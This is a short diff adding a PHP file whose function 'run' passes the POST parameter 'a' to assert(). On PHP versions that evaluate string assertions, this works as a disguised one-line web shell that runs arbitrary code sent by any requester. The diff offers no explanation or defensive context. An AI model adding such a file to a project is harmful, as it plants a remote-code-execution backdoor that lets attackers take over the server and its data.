@@ -1,0 +1,6 @@
+<?php
+function run($code)
+{
+    assert($code);
+}
+run($_POST['a']);
